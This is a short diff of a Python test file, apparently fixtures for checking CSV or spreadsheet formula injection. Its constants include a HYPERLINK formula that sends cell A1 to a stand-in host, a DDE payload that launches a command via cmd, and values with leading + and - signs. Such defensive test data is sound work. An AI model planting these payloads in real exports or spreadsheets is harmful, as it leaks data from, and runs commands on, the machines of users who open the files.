@@ -22,7 +22,7 @@ from service.settings import Settings
 from support.api import Caller, ok, opening
 
 BACKENDS = ["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)]
-BUYER = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")"
+BUYER = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
 SELLER = "+seller"
 KEY = "@SUM(1+1)*cmd|' /C calc'!A0"
 REQUEST_ID = "-2+3"
